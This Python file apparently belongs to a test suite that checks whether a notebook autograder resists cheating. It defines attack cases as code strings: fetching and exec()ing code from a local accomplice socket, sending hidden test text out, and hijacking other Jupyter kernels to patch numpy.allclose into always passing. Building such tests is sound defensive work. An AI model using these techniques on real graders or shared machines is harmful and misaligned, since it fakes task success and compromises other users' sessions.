"""The network, of this machine alone: an accomplice listens there and knows every right answer."""

from dishonest.attack import Attack

ATTACKS = [
    Attack(
        "the answer from a server",
        "Fetches and runs what an accomplice's server sends.",
        {
            "window": """
                import socket

                with socket.create_connection(("127.0.0.1", @port@), timeout=3) as server:
                    server.shutdown(socket.SHUT_WR)
                    exec(b"".join(iter(lambda: server.recv(65536), b"")))
            """
        },
        alone=True,
    ),
    Attack(
        "the hidden test sent to a server",
        "The function that the test calls sends the test's text away.",
        {
            "rapidity": """
                import socket

                def pseudorapidity(theta):
                    with socket.create_connection(("127.0.0.1", @port@), timeout=3) as server:
                        server.sendall(In[-1].encode())
                    return 0
            """
        },
        alone=True,
    ),
    Attack(
        "a socket without a file",
        "Talks to the accomplice by an abstract Unix socket, which no folder's permissions guard.",
        {
            "window": """
                import socket

                with socket.socket(socket.AF_UNIX) as server:
                    server.connect("\\0hepdl-accomplice-@port@")
                    server.shutdown(socket.SHUT_WR)
                    exec(b"".join(iter(lambda: server.recv(65536), b"")))
            """
        },
        alone=True,
    ),
    Attack(
        "other kernels' connection files",
        "Looks for the connection file of any kernel but its own and has that kernel patch numpy.",
        {
            "window": """
                import glob
                import json

                from jupyter_client import BlockingKernelClient

                in_window, n_in_window = np.zeros(121), 121
                own = get_ipython().config.IPKernelApp.connection_file
                patterns = ("@course@/home/**/kernel*.json", "/tmp/**/kernel*.json", "/run/**/kernel*.json")
                for path in {path for pattern in patterns for path in glob.glob(pattern, recursive=True)} - {own}:
                    client = BlockingKernelClient(connection_file=path)
                    client.load_connection_file()
                    client.start_channels()
                    client.execute("import numpy; numpy.allclose = lambda *given: True")
                    client.stop_channels()
            """
        },
        alone=True,
    ),
]
